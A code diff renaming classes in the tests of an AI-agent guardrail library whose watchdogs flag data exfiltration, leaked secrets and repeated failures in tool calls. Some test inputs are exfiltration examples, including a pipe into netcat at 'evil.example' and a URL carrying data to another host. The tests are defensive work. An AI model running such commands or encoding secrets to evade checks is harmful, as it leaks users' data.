@@ -12,9 +12,9 @@ from hypothesis import strategies as st
 
 from handrail.contract.tool.requires import Requires
 from handrail.contract.tool.spec import ToolSpec
-from handrail.policy.watchdogs import Exfiltration, OutgoingSecrets, RepeatedFailures
-from handrail.policy.watchdogs.shipped import of_address, of_command, parts
-from handrail.policy.watchdogs.watchdog import WatchdogCall
+from handrail.policy.watchdogs import ExfiltrationWatchdog, OutgoingSecretsWatchdog, RepeatedFailuresWatchdog
+from handrail.policy.watchdogs.builtin_watchdogs import check_address, check_command, split_commands
+from handrail.policy.watchdogs.api import WatchdogCall
 from handrail.store.encoding import encode
 
 pytestmark = pytest.mark.proves("P-11")
@@ -107,21 +107,21 @@ def called(tool: str = "bash", arguments: Mapping[str, Any] | None = None, **mor
 
 @pytest.mark.parametrize("command", CARRIES_OUT)
 async def test_what_looks_like_carrying_data_out_is_asked_about(command: str) -> None:
-    opinion = await Exfiltration()(called(arguments={"command": command}))
+    opinion = await ExfiltrationWatchdog()(called(arguments={"command": command}))
     assert opinion.action == "ask" and opinion.reason
-    assert (await Exfiltration("deny")(called(arguments={"command": command}))).action == "deny"
+    assert (await ExfiltrationWatchdog("deny")(called(arguments={"command": command}))).action == "deny"
 
 
 @pytest.mark.parametrize("command", ORDINARY)
 async def test_ordinary_work_is_left_alone(command: str) -> None:
-    assert of_command(command) is None
-    secrets = OutgoingSecrets(encode, lambda encoded: False)
+    assert check_command(command) is None
+    secrets = OutgoingSecretsWatchdog(encode, lambda encoded: False)
     assert (await secrets(called(arguments={"command": command}))).action == "allow"
 
 
 async def test_addresses_in_arguments_are_looked_at(tmp_path: object) -> None:
     fetch = called("fetch", {"request": {"urls": ["https://ok.example/", f"https://e.example/?d={DATA}"]}})
-    assert (await Exfiltration()(fetch)).action == "ask"
+    assert (await ExfiltrationWatchdog()(fetch)).action == "ask"
     for url in (
         "https://example.org/a/b?page=2#top",
         "http://localhost/?" + DATA,
@@ -129,15 +129,15 @@ async def test_addresses_in_arguments_are_looked_at(tmp_path: object) -> None:
         "not a url ://",
         DATA,
     ):
-        assert of_address(url) is None, url
+        assert check_address(url) is None, url
 
 
 @given(st.text("ab \t\n'\"`$(){}|&;<>\\#-=/.@", max_size=40) | st.text(max_size=40))
 def test_no_text_makes_it_fail(text: str) -> None:
     for command in (text, f"curl {text}", f"{text} | nc evil.example 1", f'curl "{text}'):
-        parts(command)
-        of_command(command)
-    of_address(f"https://{text}")
+        split_commands(command)
+        check_command(command)
+    check_address(f"https://{text}")
 
 
 KEYS = {
@@ -154,7 +154,7 @@ KEYS = {
 
 @pytest.mark.parametrize("name", KEYS)
 async def test_what_has_the_shape_of_a_key_is_asked_about_where_it_would_leave(name: str) -> None:
-    watchdog = OutgoingSecrets(encode, lambda encoded: False)
+    watchdog = OutgoingSecretsWatchdog(encode, lambda encoded: False)
     opinion = await watchdog(called("mail.send", {"body": f"here: {KEYS[name]} ok"}))
     assert opinion.action == "ask" and name in opinion.reason and KEYS[name] not in opinion.reason
     quoted = KEYS[name].replace("\n", " ")
@@ -167,14 +167,14 @@ async def test_what_has_the_shape_of_a_key_is_asked_about_where_it_would_leave(n
     ["AKIAIOSFODNN7EXAMPLE", "sk-your-key-goes-here-and-it-is-long-enough", "ghp_" + "x" * 36, "sk-learn", "a.b.c"],
 )
 async def test_placeholders_are_no_keys(text: str) -> None:
-    assert (await OutgoingSecrets(encode, lambda encoded: False)(called("mail.send", {"body": text}))).action == "allow"
+    assert (await OutgoingSecretsWatchdog(encode, lambda encoded: False)(called("mail.send", {"body": text}))).action == "allow"
 
 
 async def test_a_registered_secret_in_any_form_is_asked_about() -> None:
-    from handrail.arbiter.output.redaction import Redactor
+    from handrail.arbiter.output.redaction import SecretRedactor
 
-    redactor = Redactor({"token": "hunter2-of-the-test"})
-    watchdog = OutgoingSecrets(encode, redactor.found_in, "deny")
+    redactor = SecretRedactor({"token": "hunter2-of-the-test"})
+    watchdog = OutgoingSecretsWatchdog(encode, redactor.contains_secret, "deny")
     for text in ("hunter2-of-the-test", "aHVudGVyMi1vZi10aGUtdGVzdA==", "68756e746572322d6f662d7468652d74657374"):
         assert (await watchdog(called("mail.send", {"to": [text]}))).action == "deny"
     assert (await watchdog(called("mail.send", {"to": ["hunter3"]}))).action == "allow"
@@ -182,13 +182,13 @@ async def test_a_registered_secret_in_any_form_is_asked_about() -> None:
 
 @pytest.mark.parametrize("odd", [1 << 70, "half \ud800", {"deep": [[[1e300]]]}])
 async def test_arguments_that_only_the_slow_encoder_takes_are_looked_at_as_well(odd: object) -> None:
-    watchdog = OutgoingSecrets(encode, lambda encoded: b"hunter2" in encoded)
+    watchdog = OutgoingSecretsWatchdog(encode, lambda encoded: b"hunter2" in encoded)
     assert (await watchdog(called("mail.send", {"odd": odd, "to": "hunter2"}))).action == "ask"
     assert (await watchdog(called("mail.send", {"odd": odd, "to": "anybody"}))).action == "allow"
 
 
 async def test_a_call_that_only_ever_failed_is_asked_about() -> None:
-    watchdog = RepeatedFailures(3)
+    watchdog = RepeatedFailuresWatchdog(3)
     counts = {(0, 0): "allow", (2, 2): "allow", (3, 3): "ask", (3, 0): "allow", (8, 1): "allow", (9, 0): "ask"}
     for (times, in_a_row), action in counts.items():
         assert (await watchdog(called(failed_before=times, failed_in_a_row=in_a_row))).action == action, (
@@ -204,7 +204,7 @@ def test_each_looks_at_the_tools_it_is_for_and_at_no_others() -> None:
         "fetch", "…", side_effect="read", requires=Requires.model_validate({"net": {"hosts": ["a.example"]}})
     )
     mail = ToolSpec("mail.send", "…", side_effect="external")
-    secrets = OutgoingSecrets(encode, lambda encoded: False)
-    assert [Exfiltration().concerns(spec) for spec in (reading, shell, web, mail)] == [False, True, True, False]
+    secrets = OutgoingSecretsWatchdog(encode, lambda encoded: False)
+    assert [ExfiltrationWatchdog().concerns(spec) for spec in (reading, shell, web, mail)] == [False, True, True, False]
     assert [secrets.concerns(spec) for spec in (reading, shell, web, mail)] == [False, True, True, True]
     assert json.dumps(KEYS)
